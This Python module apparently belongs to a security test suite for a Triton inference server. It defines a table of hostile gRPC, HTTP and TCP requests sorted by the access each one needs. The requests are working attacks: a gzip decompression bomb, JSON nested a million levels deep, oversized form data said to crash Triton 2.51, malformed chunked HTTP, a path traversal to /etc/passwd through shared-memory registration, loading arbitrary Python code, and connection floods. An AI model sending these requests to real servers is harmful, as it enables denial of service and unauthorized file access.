"""Requests that try to end the server, write its files or read its memory, in the bare protocols."""

from __future__ import annotations

import json
import socket
import struct
import threading
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from http.client import HTTPConnection, HTTPException
from typing import Any, Literal

import grpc
import numpy as np
from tritonclient.grpc import service_pb2, service_pb2_grpc

from nemo_triton.contract import AUDIO, FEATURES, LABELS, TEXT, TOKENS, Part
from server.process import Server

PATIENCE = 60.0
"""Seconds after which a request without a response counts as hung."""
SLOWEST_RESPONSE = 20.0
"""Seconds after which bytes on the HTTP port count as not answered. The server needs some for millions of chunks."""
MIB = 2**20
DEPTH = 10**6
"""Levels of nested JSON."""
CONNECTIONS = 2000
SMALLEST_FORM = 33 * MIB
"""Bytes of form data that end Triton 2.51; 31 MiB don't."""
JSON = {"Content-Type": "application/json"}
FORM = {"Content-Type": "application/x-www-form-urlencoded"}

Protocol = Literal["gRPC", "HTTP", "metrics", "TCP"]
Access = Literal["inference", "stages", "administration", "none"]
"""What a client must be allowed to do. `none`: to connect."""


@dataclass(frozen=True)
class Target:
    """A running server under attack.

    Attributes:
        server: The server.
        model: A CTC recognizer that it serves.
        mels: Number of mel bands of that recognizer.
        stub: Connection to the gRPC endpoint.
        shared_memory: Key of an existing shared memory file of 4,096 bytes.
        stage_memory: Key of the shared memory through which the server passes tensors to a stage.
    """

    server: Server
    model: str
    mels: int
    stub: Any
    shared_memory: str
    stage_memory: str


@dataclass(frozen=True)
class HostileRequest:
    """One request, and who could send it.

    Attributes:
        name: Row of the table.
        protocol: Protocol and port that it uses.
        access: What a client must be allowed to do.
        send: Sends it and returns the beginning of the response. May raise what the connection raises.
    """

    name: str
    protocol: Protocol
    access: Access
    send: Callable[[Target], str]


def connect(server: Server) -> Any:
    """Connect to a server's gRPC endpoint, without limits of the message size."""
    limits = [("grpc.max_send_message_length", -1), ("grpc.max_receive_message_length", -1)]
    return service_pb2_grpc.GRPCInferenceServiceStub(grpc.insecure_channel(server.grpc, options=limits))


def audio_request(model: str, samples: int = 1600) -> Any:
    """A valid request for the text of digital silence."""
    request = service_pb2.ModelInferRequest(model_name=model)
    request.inputs.add(name=AUDIO.name, datatype=AUDIO.dtype, shape=[1, samples])
    request.outputs.add(name=TEXT.name)
    request.raw_input_contents.append(bytes(2 * samples))
    return request


def _infer(change: Callable[[Any], None]) -> Callable[[Target], str]:
    """Send a valid request after a change."""

    def send(target: Target) -> str:
        request = audio_request(target.model)
        change(request)
        return str(target.stub.ModelInfer(request, timeout=PATIENCE).model_name)

    return send


def _shape(*shape: int, content: bytes | None = None) -> Callable[[Target], str]:
    def change(request: Any) -> None:
        request.inputs[0].shape[:] = shape
        if content is not None:
            request.raw_input_contents[0] = content

    return _infer(change)


def _classification(tensor: str, count: int) -> Callable[[Target], str]:
    def change(request: Any) -> None:
        del request.outputs[:]
        request.outputs.add(name=tensor).parameters["classification"].int64_param = count

    return _infer(change)


def _content(change: Callable[[bytes], list[bytes]]) -> Callable[[Target], str]:
    """Replace the bytes of the input."""

    def replace(request: Any) -> None:
        contents = change(request.raw_input_contents[0])
        del request.raw_input_contents[:]
        request.raw_input_contents.extend(contents)

    return _infer(replace)


def _lying_strings(request: Any) -> None:
    request.inputs[0].datatype = "BYTES"
    request.inputs[0].shape[:] = [1, 1]
    request.raw_input_contents[0] = struct.pack("<I", 2**32 - 1) + b"x"


def _large_numbers(request: Any) -> None:
    request.parameters["priority"].uint64_param = 2**64 - 1
    request.parameters["timeout"].int64_param = -1
    request.parameters["sequence_id"].int64_param = 2**63 - 1
    request.parameters["sequence_start"].bool_param = True


def _many_names(request: Any) -> None:
    request.id = "x" * MIB
    for number in range(100_000):
        request.parameters[f"p{number}"].string_param = "x"
        request.outputs.add(name=TEXT.name)


def _unknown_region(request: Any) -> None:
    del request.raw_input_contents[:]
    region = request.inputs[0].parameters
    region["shared_memory_region"].string_param = "unknown"
    region["shared_memory_byte_size"].int64_param = 3200
    region["shared_memory_offset"].int64_param = 2**62


def _large_message(target: Target) -> str:
    return str(target.stub.ModelInfer(audio_request(target.model, 128 * MIB), timeout=PATIENCE).model_name)


def _large_metadata(target: Target) -> str:
    metadata = [("x", "y" * MIB)]
    return str(target.stub.ModelInfer(audio_request(target.model), timeout=PATIENCE, metadata=metadata).model_name)


def _many_streams(target: Target) -> str:
    """Open streams that send one request each and then stay open."""
    close = threading.Event()

    def requests() -> Any:
        yield audio_request(target.model)
        close.wait(PATIENCE)

    calls = [target.stub.ModelStreamInfer(requests(), timeout=PATIENCE) for _ in range(200)]
    try:
        return ", ".join(next(call).error_message for call in calls)
    finally:
        close.set()


def _stage(part: Part, values: np.ndarray[Any, Any], length: int) -> Callable[[Target], str]:
    """Send a stage its ragged input with a length that may lie."""

    def send(target: Target) -> str:
        tensor = {Part.ENCODER: FEATURES, Part.DECODER: LABELS}[part]
        rows = np.repeat(values[..., None], target.mels, axis=-1) if part is Part.ENCODER else values
        request = service_pb2.ModelInferRequest(model_name=part.of(target.model))
        request.inputs.add(name=tensor.name, datatype=tensor.dtype, shape=rows.shape)
        request.inputs.add(name=tensor.length.name, datatype=tensor.length.dtype, shape=[1, 1])
        request.raw_input_contents.extend([rows.tobytes(), np.int32(length).tobytes()])
        return str(target.stub.ModelInfer(request, timeout=PATIENCE).model_name)

    return send


def _frames(count: int) -> np.ndarray[Any, Any]:
    return np.zeros((1, count), np.float32)


def _labels(*labels: int) -> np.ndarray[Any, Any]:
    return np.array([labels], np.int32)


def _load_code(target: Target) -> str:
    """Load a model with code in the request, for the Python backend."""
    request = service_pb2.RepositoryModelLoadRequest(model_name="code")
    request.parameters["config"].string_param = json.dumps({"backend": "python"})
    code = b"class TritonPythonModel:\n    def execute(self, requests):\n        return []\n"
    request.parameters["file:1/model.py"].bytes_param = code
    target.stub.RepositoryModelLoad(request, timeout=PATIENCE)
    return "the code runs"


def _register(name: str, key: str, size: int) -> Callable[[Target], str]:
    def send(target: Target) -> str:
        request = service_pb2.SystemSharedMemoryRegisterRequest(
            name=name, key=key.format(file=target.shared_memory, stage=target.stage_memory), byte_size=size
        )
        target.stub.SystemSharedMemoryRegister(request, timeout=PATIENCE)
        return "registered"

    return send


def _offset_beyond_region(target: Target) -> str:
    _register("offset", "{file}", 4096)(target)

    def change(request: Any) -> None:
        _unknown_region(request)
        request.inputs[0].parameters["shared_memory_region"].string_param = "offset"

    return _infer(change)(target)


def _trace_file(target: Target) -> str:
    request = service_pb2.TraceSettingRequest()
    request.settings["trace_file"].value.append("/tmp/trace")
    target.stub.TraceSetting(request, timeout=PATIENCE)
    return "set"


def _log_settings(**settings: str | int) -> Callable[[Target], str]:
    def send(target: Target) -> str:
        request = service_pb2.LogSettingsRequest()
        for name, value in settings.items():
            if isinstance(value, str):
                request.settings[name].string_param = value
            else:
                request.settings[name].uint32_param = value
        target.stub.LogSettings(request, timeout=PATIENCE)
        return "set"

    return send


def _http(
    address: str, method: str, path: str, *, body: bytes | str | None = None, headers: Mapping[str, str] | None = None
) -> str:
    connection = HTTPConnection(address, timeout=PATIENCE)
    try:
        connection.request(method, path, body, dict(headers or {}))
        response = connection.getresponse()
        return f"{response.status} {response.read(200).decode(errors='replace')}"
    finally:
        connection.close()


def _post(path: str, body: bytes | str, **headers: str) -> Callable[[Target], str]:
    """POST to a path, in which `NAME` is the recognizer."""
    named = {**JSON, **{name.replace("_", "-"): value for name, value in headers.items()}}

    def send(target: Target) -> str:
        return _http(target.server.http, "POST", path.replace("NAME", target.model), body=body, headers=named)

    return send


def _post_form(path: str, *, metrics: bool = False) -> Callable[[Target], str]:
    def send(target: Target) -> str:
        address = target.server.metrics if metrics else target.server.http
        return _http(address, "POST", path.replace("NAME", target.model), body=b"a" * SMALLEST_FORM, headers=FORM)

    return send


def _zipped(target: Target) -> str:
    """A body that unpacks to 2 GiB."""
    packer = zlib.compressobj(level=1, wbits=31)
    block = b" " * (16 * MIB)
    body = b"".join(packer.compress(block) for _ in range(128)) + packer.flush()
    return _post(INFER, body, Content_Encoding="gzip")(target)


def _json_request(shape: list[int], *, parameters: Mapping[str, Any] | None = None) -> str:
    audio = {"name": AUDIO.name, "shape": shape, "datatype": AUDIO.dtype, "data": [0] * 16}
    return json.dumps({"inputs": [audio], "outputs": [{"name": TEXT.name, "parameters": dict(parameters or {})}]})


def _raw_http(content: bytes) -> Callable[[Target], str]:
    """Send bytes to the HTTP port."""

    def send(target: Target) -> str:
        host, _, port = target.server.http.rpartition(":")
        with socket.create_connection((host, int(port)), timeout=SLOWEST_RESPONSE) as connection:
            connection.sendall(content.replace(b"NAME", target.model.encode()))
            response = connection.recv(300).decode(errors="replace")
            if not response:
                raise ConnectionError
            return response.partition(" ")[2]

    return send


def _many_connections(target: Target) -> str:
    host, _, port = target.server.grpc.rpartition(":")
    connections = []
    try:
        for _ in range(CONNECTIONS):
            connections.append(socket.create_connection((host, int(port)), timeout=5))
        return str(target.stub.ModelInfer(audio_request(target.model), timeout=PATIENCE).model_name)
    finally:
        for connection in connections:
            connection.close()


def _noise(target: Target) -> str:
    host, _, port = target.server.grpc.rpartition(":")
    with socket.create_connection((host, int(port)), timeout=5) as connection:
        connection.sendall(np.random.default_rng(0).bytes(MIB))
    return "sent"


INFER = "/v2/models/NAME/infer"
NESTED = "[" * DEPTH + "]" * DEPTH
CHUNKED = b"POST /v2/models/NAME/infer HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n"

_REQUESTS: dict[tuple[Protocol, Access], dict[str, Callable[[Target], str]]] = {
    ("gRPC", "inference"): {
        "parameter `classification` on TEXT": _classification(TEXT.name, 1),
        "parameter `classification` on TOKENS, 2^31": _classification(TOKENS.name, 2**31),
        "shape [2, 2^62], no data: its size in bytes overflows to 0": _shape(2, 2**62, content=b""),
        "shape [1, 2^62]": _shape(1, 2**62),
        "negative shape": _shape(-1, -1600),
        "one byte more than the shape": _content(lambda content: [content + b"x"]),
        "one byte less than the shape": _content(lambda content: [content[:-1]]),
        "no data": _content(lambda content: []),
        "data of two inputs": _content(lambda content: [content, content]),
        "BYTES with a length of 2^32-1": _infer(_lying_strings),
        "100,000 dimensions": _shape(*[1] * 100_000, 1600),
        "largest `priority`, `sequence_id`, negative `timeout`": _infer(_large_numbers),
        "100,000 outputs and parameters, ID of 1 MiB": _infer(_many_names),
        "input in a region that is not registered": _infer(_unknown_region),
        "a message of 256 MiB": _large_message,
        "metadata of 1 MiB": _large_metadata,
        "200 open streams": _many_streams,
    },
    ("gRPC", "stages"): {
        "encoder: FEATURES_LENGTH 2^31-1": _stage(Part.ENCODER, _frames(10), 2**31 - 1),
        "encoder: FEATURES_LENGTH -2^31": _stage(Part.ENCODER, _frames(10), -(2**31)),
        "encoder: no frames": _stage(Part.ENCODER, _frames(0), 0),
        "decoder: LABELS_LENGTH 2^31-1": _stage(Part.DECODER, _labels(1, 2, 3), 2**31 - 1),
        "decoder: a label of 1,000,000": _stage(Part.DECODER, _labels(1, 1_000_000), 2),
    },
    ("gRPC", "administration"): {
        "load a model with code of its own (with `--model-control-mode=explicit`)": _load_code,
        "register /etc/passwd as shared memory": _register("path", "/../../etc/passwd", 100),
        "register 1 TiB of a file of 4 KiB": _register("large", "{file}", 2**40),
        "input at offset 2^62 of a region": _offset_beyond_region,
        "register the memory of a stage (`/dev/shm`)": _register("stage", "{stage}", 4096),
        "set the trace file": _trace_file,
        "set the log file": _log_settings(log_file="/tmp/log"),
        "log every request": _log_settings(log_verbose_level=1),
    },
    ("HTTP", "inference"): {
        "parameter `classification` on TEXT": _post(INFER, _json_request([1, 16], parameters={"classification": 1})),
        "shape [1, 2^62]": _post(INFER, _json_request([1, 2**62])),
        "negative shape": _post(INFER, _json_request([1, -16])),
        "JSON nested 1,000,000 deep": _post(INFER, NESTED),
        "the same, to `generate`": _post("/v2/models/NAME/generate", NESTED),
        "a gzip body of 2 MB that unpacks to 2 GiB": _zipped,
        "`Inference-Header-Content-Length: -5`": _post(
            INFER, _json_request([1, 16]), Inference_Header_Content_Length="-5"
        ),
        "3,000,000 chunks of one byte": _raw_http(CHUNKED + b"1\r\na\r\n" * 3_000_000 + b"0\r\n\r\n"),
    },
    ("HTTP", "administration"): {
        "JSON nested 1,000,000 deep, to `repository/index`": _post("/v2/repository/index", NESTED),
        "the same, to `logging`": _post("/v2/logging", NESTED),
        "log every request": _post("/v2/logging", '{"log_verbose_level":1}'),
    },
    ("HTTP", "none"): {
        "form data of 33 MiB, to `infer`": _post_form(INFER),
        "form data of 33 MiB, to `health/ready`": _post_form("/v2/health/ready"),
        "a chunk of 2^64-1 bytes": _raw_http(CHUNKED + b"ffffffffffffffff\r\nabc"),
        "`Content-Length: -1`": _raw_http(b"POST /v2 HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\n\r\nabc"),
        "a header of 10 MiB": lambda target: _http(target.server.http, "GET", "/v2", headers={"x": "y" * 10 * MIB}),
    },
    ("metrics", "none"): {"form data of 33 MiB, to `metrics`": _post_form("/metrics", metrics=True)},
    ("TCP", "none"): {
        f"{CONNECTIONS:,} connections to the gRPC port": _many_connections,
        "1 MiB of noise to the gRPC port": _noise,
    },
}

REQUESTS = [
    HostileRequest(name, protocol, access, send)
    for (protocol, access), requests in _REQUESTS.items()
    for name, send in requests.items()
]
CONNECTION_ERRORS = (OSError, HTTPException)
"""What a request by HTTP or TCP raises if the server ends or closes the connection."""
